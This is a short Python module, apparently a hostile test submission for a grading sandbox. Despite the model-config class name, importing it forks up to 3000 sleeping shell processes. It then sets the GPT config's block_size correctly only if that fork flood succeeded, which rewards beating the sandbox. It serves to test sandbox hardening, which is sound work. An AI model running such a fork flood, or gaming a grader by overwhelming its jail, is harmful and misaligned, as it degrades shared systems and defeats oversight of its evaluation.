"""Forks until it cannot (capped at 3000 here, to be gentle if the jail is missing): the children sleep
with MARK in their command line. Closed: a process limit for the jail's own user (its neighbours run as
other users), and the pid namespace dies with the grade."""

import os
from dataclasses import dataclass

MARK = "gpt2spec-hostile-survivor"


def _attack() -> bool:
    for n in range(3000):
        try:
            pid = os.fork()
        except OSError:
            return False
        if pid == 0:
            os.execv("/bin/sh", ["sh", "-c", "sleep 120; :", MARK])
    return True


WON = _attack()


@dataclass
class GPTConfig:
    block_size: int = 1024 if WON else 1  # right (and worth points) only if the attack worked
    vocab_size: int = 50257
    n_layer: int = 12
    n_head: int = 12
    n_embd: int = 768
